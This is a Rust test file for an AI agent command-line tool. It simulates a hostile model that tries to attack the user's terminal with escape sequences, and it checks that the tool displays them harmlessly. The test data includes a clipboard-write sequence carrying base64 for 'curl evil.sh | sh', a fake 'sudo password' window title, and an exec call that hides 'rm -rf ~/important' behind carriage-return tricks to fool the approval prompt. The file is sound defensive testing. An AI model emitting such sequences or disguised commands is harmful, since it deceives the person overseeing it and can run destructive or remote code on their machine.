//! A hostile model against the person's terminal: answer text, thinking and tool calls full of
//! escape sequences (clipboard write, window title, screen clear, hidden text, carriage-return
//! overwrites, a C1 CSI, a bidi override), cut across stream chunks. Human output shows them
//! as visible escapes; `--json` keeps the exact text; the exec question shows the command
//! exactly as it will run.

use openclaw_test_support::{tool_call_stream, ModelSpec, Reply, TestServer};
use serde_json::{json, Value};

use super::support::Env;

/// The answer, in pieces that cut escape sequences in two.
const ANSWER: &[&str] = &[
    "Done.\u{1b}",
    "]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7} \u{1b}]0;",
    "sudo password\u{7}\u{1b}[",
    "2J\u{1b}[8mhidden\u{1b}[0m\r",
    "all good\u{9b}",
    "31m\tred\n\u{202e}gnp.exe\u{202c} end",
];

const THINKING: &[&str] = &["plan\u{1b}]0;", "title\u{7}\r", "overwritten"];

/// A path with a C1 CSI and a bidi override (JSON escapes neither).
const PATH: &str = "notes\u{9b}2J\u{202e}txt.md";

/// A `/v1` stream of thinking pieces, then answer pieces, in Ollama's chunk layout.
fn thinking_then_text(thinking: &[&str], text: &[&str]) -> String {
    let chunk = |delta: Value, finish: Value| {
        let body = json!({"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1751919739,
            "model": "llama3.3", "system_fingerprint": "fp_ollama",
            "choices": [{"index": 0, "delta": delta, "finish_reason": finish}]});
        format!("data: {body}\n\n")
    };
    let mut out = String::new();
    for (i, t) in thinking.iter().enumerate() {
        let delta = if i == 0 {
            json!({"role": "assistant", "content": "", "reasoning": t})
        } else {
            json!({"reasoning": t})
        };
        out.push_str(&chunk(delta, Value::Null));
    }
    for t in text {
        out.push_str(&chunk(json!({"content": t}), Value::Null));
    }
    out.push_str(&chunk(json!({}), json!("stop")));
    out.push_str("data: [DONE]\n\n");
    out
}

fn hostile_server() -> TestServer {
    TestServer::builder()
        .model(
            ModelSpec::new("llama3.3")
                .reply(Reply::Sse(tool_call_stream(
                    "read",
                    &json!({ "path": PATH }).to_string(),
                )))
                .reply(Reply::Sse(thinking_then_text(THINKING, ANSWER))),
        )
        .start_blocking()
        .unwrap()
}

fn env_with(server: &TestServer) -> Env {
    let env = Env::new().api_key("ollama-local").ollama(server);
    std::fs::create_dir_all(env.state_dir().join("workspace")).unwrap();
    env
}

/// The first character a terminal would act on, if any: C0 but newline and tab, DEL, C1,
/// bidi controls.
fn first_raw_control(text: &str) -> Option<(usize, char)> {
    text.char_indices().find(|&(_, c)| {
        (c.is_control() && c != '\n' && c != '\t')
            || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

#[test]
fn human_output_shows_escape_sequences_instead_of_sending_them() {
    let server = hostile_server();
    let env = env_with(&server);
    let run = env.ok(&["agent", "-m", "summarise", "--model", "ollama/llama3.3"]);
    assert_eq!(first_raw_control(&run.stdout), None, "{:?}", run.stdout);
    assert_eq!(first_raw_control(&run.stderr), None, "{:?}", run.stderr);
    insta::assert_snapshot!(run.stdout, @r"
    Done.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7} \u{1b}]0;sudo password\u{7}\u{1b}[2J\u{1b}[8mhidden\u{1b}[0m\rall good\u{9b}31m	red
    \u{202e}gnp.exe\u{202c} end
    ");
    assert!(
        run.stderr.contains(r"plan\u{1b}]0;title\u{7}\roverwritten"),
        "{}",
        run.stderr
    );
    let summary = run
        .stderr
        .lines()
        .find(|l| l.contains("⚙"))
        .unwrap_or_else(|| panic!("no tool summary in {}", run.stderr));
    insta::assert_snapshot!(summary, @r#"⚙ read({"path":"notes\u{9b}2J\u{202e}txt.md"}) → error: `read`: `notes\u{9b}2J\u{202e}txt.md` does not exist"#);
}

#[test]
fn json_output_keeps_the_exact_text_and_no_raw_control() {
    let server = hostile_server();
    let env = env_with(&server);
    let run = env.ok(&[
        "agent",
        "-m",
        "summarise",
        "--model",
        "ollama/llama3.3",
        "--json",
    ]);
    assert_eq!(first_raw_control(&run.stdout), None, "{:?}", run.stdout);
    let out = run.json();
    assert_eq!(out["answer"], ANSWER.concat());
    assert_eq!(out["thinking"], THINKING.concat());
    assert_eq!(out["toolCalls"][0]["arguments"]["path"], PATH);
    assert!(
        run.stdout.contains(r"\u001b]52;c;") && run.stdout.contains(r"\u009b31m"),
        "{}",
        run.stdout
    );
}

/// The question before an exec shows the command as it will run: the carriage return that
/// would let `rm` hide behind an `echo`, the erase-line and cursor-up sequences, the second
/// line, the clipboard write, the bidi override, the C1 CSI — all visible. Colours are on (a
/// real terminal), so nothing but our own colour codes may reach it raw. Answered "n": nothing
/// runs.
#[test]
fn the_exec_question_shows_the_exact_command() {
    let command = "echo 'listing files'\r\u{1b}[2K\u{1b}[1A# ls -la\n\
        rm -rf ~/important \u{1b}]52;c;ZXZpbA==\u{7}#\u{202e}gnp.tac\u{202c}\u{9b}8m\\";
    let server = TestServer::builder()
        .model(
            ModelSpec::new("llama3.3")
                .reply(Reply::Sse(tool_call_stream(
                    "exec",
                    &json!({ "command": command }).to_string(),
                )))
                .reply(Reply::Sse(thinking_then_text(&[], &["not run"]))),
        )
        .start_blocking()
        .unwrap();
    let env = env_with(&server);
    // Without a sandbox the question is the same on every machine.
    env.write_config(r#"{ tools: { exec: { sandbox: "off" } } }"#);
    std::fs::write(env.home().join("important"), "keep").unwrap();
    let mut cmd = env.std_command(&["agent", "-m", "list files", "--model", "ollama/llama3.3"]);
    cmd.env_remove("NO_COLOR").env("TERM", "xterm-256color");
    let mut term = rexpect::session::spawn_command(cmd, Some(30_000)).unwrap();
    let before = term.exp_string("Run it? [y/N]").unwrap();
    let (_, asked) = before
        .split_once("the model wants to run this command:")
        .unwrap_or_else(|| panic!("no question in {before:?}"));
    // rexpect gives one char per byte; the terminal turns each newline into CR LF, so any
    // other CR came from the program.
    let asked: Vec<u8> = asked.chars().map(|c| u8::try_from(c).unwrap()).collect();
    let asked = String::from_utf8(asked).unwrap().replace("\r\n", "\n");
    assert_eq!(first_raw_control(&asked), None, "{asked:?}");
    insta::assert_snapshot!(asked.trim_start_matches('\n').trim_end(), @r"
      1 │ echo 'listing files'\r\u{1b}[2K\u{1b}[1A# ls -la
      2 │ rm -rf ~/important \u{1b}]52;c;ZXZpbA==\u{7}#\u{202e}gnp.tac\u{202c}\u{9b}8m\\
      (8 control or invisible character(s) shown as escapes such as \r or \u{1b}; each backslash of the command is shown as \\)
    there is no sandbox: it runs UNCONFINED with your permissions.
    ");
    term.send_line("n").unwrap();
    let rest = term.exp_eof().unwrap();
    let status = term.process().wait().unwrap();
    assert!(
        matches!(status, rexpect::process::WaitStatus::Exited(_, 0)),
        "{status:?}\n{rest}"
    );
    assert!(rest.contains("not run"), "{rest}");
    assert_eq!(
        std::fs::read_to_string(env.home().join("important")).unwrap(),
        "keep"
    );
}

/// `openclaw chat` prints through the same printer: the same answer, piped in and out, reaches
/// stdout with every escape visible.
#[test]
fn chat_shows_escape_sequences_instead_of_sending_them() {
    let server = hostile_server();
    let env = env_with(&server);
    let output = env
        .command(&["chat", "--model", "ollama/llama3.3"])
        .write_stdin("summarise\n/quit\n")
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{stdout}\n{stderr}");
    assert_eq!(first_raw_control(&stdout), None, "{stdout:?}");
    assert_eq!(first_raw_control(&stderr), None, "{stderr:?}");
    assert!(
        stdout.contains(r"Done.\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}"),
        "{stdout}"
    );
}
